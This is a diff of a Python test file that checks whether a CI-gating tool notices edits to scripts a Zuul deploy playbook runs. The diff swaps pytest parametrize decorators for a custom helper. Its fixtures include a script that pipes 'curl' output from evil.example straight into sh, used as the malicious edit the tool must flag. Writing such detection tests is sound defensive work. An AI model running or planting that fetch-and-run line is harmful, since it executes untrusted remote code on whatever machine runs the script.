@@ -13,8 +13,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 ZUUL = "- job:\n    name: deploy\n    run: playbooks/deploy.yaml\n"
 PAD = ("# " + "p" * 98 + "\n") * 11000  # past the 1 MiB read
@@ -37,8 +37,7 @@ FORMS = {  # name: (the playbook's tasks, the file the change edits)
 SCRIPT, EVIL = "#!/bin/sh\necho ok\n", "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
 
 
-@pytest.mark.parametrize("bound", BOUNDS)
-@pytest.mark.parametrize("target", ["tools/setup.sh", "docs/notes.txt"])
+@each_case("bound, target", [(bound, target) for bound in BOUNDS for target in ["tools/setup.sh", "docs/notes.txt"]])
 def test_past_the_bounds_every_file_counts(tmp_path: Path, bound: str, target: str) -> None:
     case = committed(tmp_path, {".zuul.yaml": ZUUL, "tools/setup.sh": SCRIPT, "docs/notes.txt": "a\n",
                                 **BOUNDS[bound]}, {target: EVIL})
@@ -46,7 +45,7 @@ def test_past_the_bounds_every_file_counts(tmp_path: Path, bound: str, target: s
     assert code == 3 and target in named.get("core.ci", []), named  # before: src, exit 0
 
 
-@pytest.mark.parametrize("form", FORMS)
+@each_case("form", FORMS)
 def test_the_mapping_forms_name_the_file(tmp_path: Path, form: str) -> None:
     tasks, edited = FORMS[form]
     base = {".zuul.yaml": ZUUL, "playbooks/deploy.yaml": "- hosts: all\n  tasks:\n" + tasks, edited: SCRIPT,
